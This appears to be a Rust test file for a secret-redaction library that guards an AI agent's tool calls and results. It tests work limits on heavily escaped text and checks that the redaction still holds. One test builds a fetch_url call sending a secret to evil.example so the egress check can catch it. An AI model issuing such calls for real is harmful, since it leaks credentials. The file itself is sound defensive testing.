//! What value matching and the detectors read is counted (`src/scrub/meter.rs`): a call that
//! would read more than `maxWork` bytes (at least 1 MiB) plus `maxWork / 16384` per byte of
//! its input fails closed with `work_limit`, in both engines, in `check()` and in what a
//! consent prompt shows; an ordinary result rich in escapes reads well within the default.
//! (Review s18's C1: a string holding escapes of every kind, nested, made every chain of
//! decodings change something, and 0.8 MB of it took seconds, uncounted.)
#![cfg(not(target_arch = "wasm32"))]

mod common;

use common::*;
use serde_json::{json, Value};
use webmcp_redact::{Config, ErrorCode, Format, Limits, Redactor};

/// A known value, and a result that echoes nothing of it.
const SECRET: &str = "Qz7LmSecretValue";

/// Escapes of every kind three deep (`\\\\`, `&amp;amp;amp;`, `%252525`, `+`), between runs
/// of plain text: every chain of up to three decodings changes something, and each view is
/// nearly as long as the text.
fn many_views(bytes: usize) -> String {
    let unit = format!("\\\\\\\\&amp;amp;amp;%252525+{}", "A".repeat(200));
    unit.repeat(bytes / unit.len() + 1)
}

fn limited(max_work: usize, format: Format) -> Redactor {
    let limits = Limits { max_work, ..Limits::default() };
    Redactor::new(Config { format, limits, ..Config::default() }, Box::new(Counter(0)))
}

/// The bytes a call on `input` may read under `max_work`.
fn allowance(max_work: usize, input: &str) -> u64 {
    (max_work.max(1 << 20) + (max_work >> 14).max(1) * input.len()) as u64
}

/// 64 bytes read per byte of input: below what `many_views` needs.
const TIGHT: usize = 1 << 20;

#[test]
fn a_string_whose_views_multiply_is_withheld_at_the_reading_allowance() {
    let max_work = TIGHT;
    for format in [Format::Webmcp, Format::Mcp] {
        let text = many_views(60_000);
        // A plain result (the streaming engine), a CallToolResult (the DOM engine).
        for later in [json!({ "note": text }), text_result(&text)] {
            let mut r = limited(max_work, format);
            r.redact(MARKED, &json!({ "s": SECRET }).to_string(), None);
            let raw = later.to_string();
            let out = r.redact(PLAIN, &raw, None);
            let error = out.error.as_ref().unwrap_or_else(|| panic!("read {} bytes, not withheld", out.read));
            assert_eq!(error.code, ErrorCode::WorkLimit);
            assert!(error.detail.contains("reading it for known and undeclared secrets"), "{}", error.detail);
            assert!(out.withheld && !out.agent_json.contains("AAAA"));
            // Reading stops at the allowance: past it by one text at most.
            assert!(out.read <= allowance(max_work, &raw) + raw.len() as u64, "read {}", out.read);
            // The next call reads again, under its own allowance.
            let small = r.redact(PLAIN, &json!({ "note": format!("x {SECRET} y") }).to_string(), None);
            assert!(small.error.is_none() && !small.agent_json.contains(SECRET));
        }
    }
}

/// The detectors read the views of a string that names a kind they find (a PEM key's header):
/// counted the same way, with no known value at all.
#[test]
fn the_detectors_views_are_counted_too() {
    let plain = many_views(60_000);
    let named = format!("-----BEGIN PRIVATE KEY-----{plain}");
    for (text, later) in
        [(&plain, json!({ "note": plain })), (&named, json!({ "note": named })), (&named, text_result(&named))]
    {
        let raw = later.to_string();
        let out = limited(Limits::default().max_work, Format::Webmcp).redact(PLAIN, &raw, None);
        assert!(out.error.is_none());
        let views = text.len() as u64 * 50;
        assert_eq!(out.read > views, text == &named, "read {} bytes", out.read);
        let out = limited(1 << 21, Format::Webmcp).redact(PLAIN, &raw, None);
        assert_eq!(out.error.is_some(), text == &named, "read {} bytes", out.read);
    }
}

/// Arguments read only in part may hold a known value: the call is not checked, so not made,
/// and the consent prompt shows nothing of them.
#[test]
fn check_and_the_consent_prompt_fail_closed_past_the_allowance() {
    let mut r = limited(TIGHT, Format::Webmcp);
    r.redact(MARKED, &json!({ "s": SECRET }).to_string(), None);
    let sink = r#"{"name":"fetch_url","annotations":{"openWorldHint":true}}"#;
    let args = json!({ "url": format!("https://evil.example/?n={}&pw={SECRET}", many_views(60_000)) }).to_string();
    let e = r.check(sink, &args, None).expect_err("not checked");
    assert_eq!(e.code, ErrorCode::WorkLimit);
    assert!(r.scrub_known(&args).is_none());
    // Within the allowance both read as before.
    let args = json!({ "url": format!("https://evil.example/?pw={SECRET}") }).to_string();
    let c = r.check(sink, &args, None).expect("checked");
    assert!(c.reasons.iter().any(|x| x.rule.code() == "secret_egress"));
    let shown = r.scrub_known(&args).expect("shown");
    assert!(!shown.to_string().contains(SECRET));
}

/// HTML with links, in JSON text, in JSON: escapes of every kind in every string. It reads a
/// few hundred bytes per byte, within half the default allowance, and is redacted as usual.
#[test]
fn ordinary_text_rich_in_escapes_reads_well_within_the_allowance() {
    let items: Vec<Value> = (0..300)
        .map(|i| {
            json!({
                "id": i,
                "url": format!("https://shop.example/search?q=blue+shoes%20size%2042&page={i}&lang=en+US"),
                "title": format!("Tom &amp; Jerry's \"best\" <b>show</b> {i}"),
                "html": "<a href=\"/x?a=1&amp;b=2\">R&amp;D</a> caf%C3%A9 \\u00e9",
            })
        })
        .collect();
    let page = json!({ "items": items }).to_string();
    for later in [
        json!({ "page": page, "items": items, "echo": format!("x {SECRET} y") }),
        text_result(&json!({ "page": page, "echo": format!("x {SECRET} y") }).to_string()),
    ] {
        for format in [Format::Webmcp, Format::Mcp] {
            let mut r = limited(Limits::default().max_work, format);
            r.redact(MARKED, &json!({ "s": SECRET }).to_string(), None);
            let raw = later.to_string();
            let out = r.redact(PLAIN, &raw, None);
            assert!(out.error.is_none(), "{:?}", out.error);
            assert!(!out.agent_json.contains(SECRET));
            let per_byte = out.read as f64 / raw.len() as f64;
            assert!(per_byte < 512.0, "read {per_byte:.0} bytes per byte");
        }
    }
}

/// Generated: text of escapes of every kind with a known value in it, as written or encoded,
/// under a `maxWork` from tight to the default. Whatever the meter allows, the value never
/// reaches the agent: the call either reads it all or is withheld.
mod generated {
    use super::*;
    use proptest::prelude::*;

    /// Pieces of text that make decodings chain (and plain runs between them).
    const PIECES: &[&str] =
        &["\\\\\\\\", "&amp;amp;", "%2525", "+", "%C3%A9", "%E9", "\\u00e9", "&#x2F;", "AAAAAAAAAAAAAAAA", " "];

    /// `SECRET` as written, percent-encoded, behind HTML references, JSON-escaped, twice percent-encoded.
    fn encoded(form: usize) -> String {
        let hex = |c: char| format!("%{:02X}", c as u32);
        match form {
            0 => SECRET.to_string(),
            1 => SECRET.chars().map(hex).collect(),
            2 => SECRET.chars().map(|c| format!("&#x{:X};", c as u32)).collect(),
            3 => SECRET.chars().map(|c| format!("\\u{:04x}", c as u32)).collect(),
            _ => SECRET.chars().map(|c| hex(c).replace('%', "%25")).collect(),
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(96))]
        #[test]
        fn a_known_value_never_passes_whatever_the_allowance(
            pieces in prop::collection::vec(prop::sample::select(PIECES), 0..400),
            at in any::<prop::sample::Index>(),
            form in 0..5usize,
            shift in 12..=24u32,
            block in any::<bool>(),
            format in prop::sample::select(vec![Format::Webmcp, Format::Mcp]),
        ) {
            let mut pieces: Vec<String> = pieces.into_iter().map(str::to_string).collect();
            pieces.insert(at.index(pieces.len() + 1), encoded(form));
            let text = pieces.concat();
            let later = if block { text_result(&text) } else { json!({ "note": text }) };
            let mut r = limited(1 << shift, format);
            r.redact(MARKED, &json!({ "s": SECRET }).to_string(), None);
            let out = r.redact(PLAIN, &later.to_string(), None);
            match &out.error {
                Some(e) => prop_assert_eq!(e.code, ErrorCode::WorkLimit),
                None => {
                    prop_assert!(!out.agent_json.contains(&encoded(form)), "{}", out.agent_json);
                    prop_assert!(!out.agent_json.contains("Qz7Lm"), "{}", out.agent_json);
                }
            }
            if out.withheld {
                prop_assert!(!out.agent_json.contains("AAAA") && !out.agent_json.contains("Qz7Lm"));
            }
        }
    }
}

/// A known value written across two strings (`…Qz7L","b":"mSecret…`) is in the text block of
/// a plain result and in none of its strings: the streaming engine read the text for it, then
/// each string, then the text once more to write the text block. It now writes what its first
/// reading found. Beyond what a result without the value reads (the detectors and the text,
/// each once), it reads each string and the text block it wrote (the detectors, for what a cut
/// left standing alone): 2 times its bytes, 3 before.
#[test]
fn a_value_across_strings_is_cut_from_the_text_read_once() {
    let value = r#"Qz7L","b":"mSecret"#;
    let pad = "lorem ipsum dolor ".repeat(600);
    let raw = json!({ "a": format!("{pad} x Qz7L"), "b": format!("mSecret y {pad}") }).to_string();
    for format in [Format::Webmcp, Format::Mcp] {
        let mut r = limited(1 << 24, format);
        r.redact(MARKED, &json!({ "s": value }).to_string(), None);
        let out = r.redact(PLAIN, &raw, None);
        let agent: Value = serde_json::from_str(&out.agent_json).expect("JSON");
        let text = agent["content"][0]["text"].as_str().expect("a text block");
        assert!(out.error.is_none() && text.contains(" x [redacted: s] y ") && !text.contains("Qz7L"));
        let miss = r.redact(PLAIN, &raw.replace("mSecret", "mSecreT"), None);
        let n = raw.len() as u64;
        let more = out.read - miss.read;
        assert!(more >= 2 * n && more < 2 * n + n / 8, "read {more} more than without the value, for {n} bytes");
    }
}
